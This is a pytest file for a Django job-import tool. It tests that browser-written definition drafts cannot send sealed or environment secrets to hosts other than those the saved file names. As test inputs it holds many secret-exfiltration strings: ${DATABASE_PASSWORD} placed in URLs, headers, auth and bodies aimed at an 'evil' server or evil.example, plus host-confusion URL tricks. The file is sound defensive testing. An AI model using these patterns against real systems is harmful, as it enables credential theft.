"""What a definition that is written in a browser may send: sealed secrets, and what the file of its import sends."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from django.test import Client
from http_source import HttpSource
from project_folder import CLIENT_DEFINITION, ProjectFolder, xml_feed
from web_client import account, logged_in, shown

from jobpipe.definition.project import find_project
from jobpipe.errors import DefinitionError
from jobpipe.ledger.models import AccountRole, DefinitionDraft
from jobpipe.runs.secret_values import set_secret

DRAFT = "/imports/offers/definition/draft"
CHECK = "/imports/offers/definition/check"
ACTS = ("preview", "rejected", "plan", "publish_and_run")
VALUE = "hunter2-of-the-database"


@pytest.fixture
def evil() -> Iterator[HttpSource]:
    """Whoever writes a draft would like to have it there."""
    with HttpSource() as running:
        for path in ("/", "/feed.xml", "/token"):
            running.serve(path, xml_feed({"1": "Mason"}))
        yield running
        for seen in running.requests:
            assert VALUE not in f"{seen.path} {seen.headers} {seen.content!r}"


@pytest.fixture
def good() -> Iterator[HttpSource]:
    with HttpSource() as running:
        running.serve("/feed.xml", xml_feed({"1": "Mason"}))
        running.serve("/other.xml", xml_feed({"1": "Nurse"}))
        yield running


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[ProjectFolder]:
    for name in ("DATABASE_PASSWORD", "FEED_KEY", "FEED_HOST", "JOBPIPE_KEY_OF_OURS"):
        monkeypatch.setenv(name, VALUE)
    folder = ProjectFolder(tmp_path / "project", CLIENT_DEFINITION)
    folder.run(xml_feed({"1": "Mason"}), workers=0)
    with shown(folder):
        yield folder


@pytest.fixture
def developer(project: ProjectFolder) -> Client:
    return logged_in(account(AccountRole.DEVELOPER))


def of_source(*lines: str) -> str:
    source = "".join(f"  {line}\n" for line in lines)
    return CLIENT_DEFINITION.replace("  feed: feed.xml\n  record: offer\n", source)


def refuses(project: ProjectFolder, developer: Client, text: str, said: str) -> None:
    """Whatever is done with the draft, the file stays and the words stand beside their line."""
    file = (project.root / "imports" / "offers.yaml").read_text()
    for act in ACTS:
        page = developer.post(DRAFT, {"text": text, "do": act}, follow=True).content.decode()
        assert said in page, (act, page)
        assert VALUE not in page
    assert (project.root / "imports" / "offers.yaml").read_text() == file
    DefinitionDraft.objects.all().delete()


NOT_SEALED = "DATABASE_PASSWORD is no sealed secret"


def test_no_draft_sends_a_variable_of_the_environment(
    project: ProjectFolder, developer: Client, evil: HttpSource
) -> None:
    there = evil.url("/feed.xml")
    for lines in (
        (f"feed: {there}?x=${{DATABASE_PASSWORD}}",),
        (f"feed: {there}?x=${{DATABASE_PASSWORD:-none}}",),
        (f"parts: [{there}, '{there}?${{DATABASE_PASSWORD}}']",),
        (f"feed: {there}", "headers: {X-Key: '${DATABASE_PASSWORD}'}"),
        (f"feed: {there}", "auth: {basic: 'me:${DATABASE_PASSWORD}'}"),
        (f"api: {{url: '{there}', params: {{x: '${{DATABASE_PASSWORD}}'}}}}",),
        (f"api: {{url: '{there}', body: {{a: [{{b: '${{DATABASE_PASSWORD}}'}}]}}}}",),
        (f"api: {{url: '{there}', detail: {{url: '{there}/{{id}}?${{DATABASE_PASSWORD}}'}}}}",),
        (f"site: {{start: '{there}', cookies: {{x: '${{DATABASE_PASSWORD}}'}}}}",),
        (f"site: {{form: {{url: '{there}', fields: {{x: '${{DATABASE_PASSWORD}}'}}}}}}",),
        (f"soap: {{wsdl: '{there}', operation: jobs, params: {{x: '${{DATABASE_PASSWORD}}'}}}}",),
    ):
        refuses(project, developer, of_source(*lines), NOT_SEALED)


def test_nor_does_a_first_import(project: ProjectFolder, developer: Client, evil: HttpSource) -> None:
    for name, said in (
        ("DATABASE_PASSWORD", NOT_SEALED),
        ("NOBODY_SET_THIS", "NOBODY_SET_THIS is no sealed secret"),
        ("JOBPIPE_KEY_OF_OURS", "own"),
    ):
        given = {"name": "fresh", "client": "", "feed": f"{evil.url('/feed.xml')}?x=${{{name}}}"}
        answer = developer.post("/imports/new/", given)
        assert answer.status_code == 400 and said in answer.content.decode()
    assert not DefinitionDraft.objects.exists()
    assert evil.requests == []


def test_what_may_not_be_asked_for_is_told_with_line_and_column(project: ProjectFolder, developer: Client) -> None:
    text = of_source("feed: https://evil.example/?x=${DATABASE_PASSWORD}")
    page = developer.post(CHECK, {"text": text}).content.decode()
    assert "line 4, column 33" in page and NOT_SEALED in page and "jobpipe secrets set DATABASE_PASSWORD" in page


def test_what_is_sealed_is_sent_and_so_is_what_the_settings_open(
    project: ProjectFolder, developer: Client, good: HttpSource
) -> None:
    with project.open() as workspace:
        set_secret(workspace, "SEALED_KEY", "sesame-open", by="me")
    text = of_source(f"feed: {good.url('/feed.xml')}", "headers: {X-Key: '${SEALED_KEY}'}", "record: offer")
    page = developer.post(DRAFT, {"text": text, "do": "preview"}).content.decode()
    assert "Mason" in page and good.requests[-1].header("x-key") == "sesame-open"
    project.configure("open_variables: [FEED_*]\n")
    with shown(project):
        text = text.replace("SEALED_KEY", "FEED_KEY")
        developer.post(DRAFT, {"text": text, "do": "preview"})
        assert good.requests[-1].header("x-key") == VALUE


def test_what_is_job_pipes_own_is_sent_nowhere_though_it_is_sealed_or_in_the_file(
    project: ProjectFolder, developer: Client, evil: HttpSource
) -> None:
    text = of_source(f"feed: {evil.url('/feed.xml')}", "headers: {X-Key: '${JOBPIPE_KEY_OF_OURS}'}")
    with project.open() as workspace:
        set_secret(workspace, "JOBPIPE_KEY_OF_OURS", VALUE, by="me")
    project.define(text)
    refuses(project, developer, text + "  description: text\n", "JOBPIPE_KEY_OF_OURS is job-pipe&#x27;s own")


def test_what_the_file_asks_for_a_draft_may_ask_for_at_the_same_host(
    project: ProjectFolder, developer: Client, good: HttpSource
) -> None:
    written = of_source(f"feed: {good.url('/feed.xml')}", "headers: {X-Key: '${FEED_KEY}'}", "record: offer")
    project.define(written)
    text = written.replace("/feed.xml", "/other.xml").replace("title: title", "title: [title, upper]")
    page = developer.post(DRAFT, {"text": text, "do": "preview"}).content.decode()
    assert "NURSE" in page and good.requests[-1].header("x-key") == VALUE
    assert developer.post(DRAFT, {"text": text, "do": "publish"}).status_code == 302


def test_and_nowhere_else_however_the_other_place_is_written(
    project: ProjectFolder, developer: Client, good: HttpSource, evil: HttpSource, monkeypatch: pytest.MonkeyPatch
) -> None:
    own, other = good.url("/feed.xml"), evil.url("/feed.xml")
    host, away = own.split("/")[2], other.split("/")[2]
    monkeypatch.setenv("PLAIN", "x")
    project.define(of_source(f"feed: {own}", "headers: {X-Key: '${FEED_KEY}', X-Plain: '${PLAIN}'}", "record: offer"))
    kept = "headers: {X-Key: '${FEED_KEY}'}"
    for lines in (
        (f"feed: {other}", kept),
        (f"parts: ['{own}', '{other}']", kept),
        (f"feed: http://{host}@{away}/feed.xml", kept),
        (f"feed: 'http://{host}\\@{away}/feed.xml'", kept),
        (f"feed: http://{away}#@{host}/feed.xml", kept),
        ("feed: 'http://${PLAIN}/feed.xml'", kept),
        (f"feed: https://{host}/feed.xml", kept),
        (f"feed: {own}", "headers: {X-Key: '${FEED_KEY}', Host: evil.example}"),
        (f"feed: {own}", "headers: {Authorization: 'Bearer ${FEED_KEY}'}"),
        (f"feed: {own}?x=${{FEED_KEY}}", kept),
        (f"api: {{url: '{own}', detail: {{url: '{{link}}'}}}}", kept),
        (f"api: {{url: '{own}', detail: {{url: 'http://{{host}}/x'}}}}", kept),
        (f"api: {{url: '{own}'}}", "auth: {oauth2: {url: '" + other + "', client_id: me, client_secret: x}}", kept),
        (f"site: {{start: '{other}'}}", kept),
        (f"site: {{start: '{own}', sitemaps: '//{away}/sitemap.xml'}}", kept),
    ):
        refuses(project, developer, of_source(*lines), "is for the hosts, the login and the words that the file has")
    assert evil.requests == []


def test_a_draft_brings_no_code_by_way_of_its_crawler(project: ProjectFolder, developer: Client) -> None:
    for word in ("spider: 'jobs.spiders:Jobs'", "project: feeds", "settings: {FEEDS: {/tmp/x: {format: csv}}}"):
        text = of_source(f"site: {{start: 'https://jobs.example/', {word}}}")
        refuses(project, developer, text, "names code, which no draft brings")
        project.define(text)
        assert "names code" not in developer.post(CHECK, {"text": text}).content.decode()
        project.define(CLIENT_DEFINITION)


@pytest.mark.parametrize("name", ["JOBPIPE_KEY", "jobpipe_*", "*", "A B", "${X}"])
def test_the_settings_open_no_variable_that_is_job_pipes_own(tmp_path: Path, name: str) -> None:
    folder = ProjectFolder(tmp_path / "project")
    folder.configure(f"open_variables: ['{name}']\n")
    with pytest.raises(DefinitionError, match="opens no variable"):
        find_project(folder.root, {})
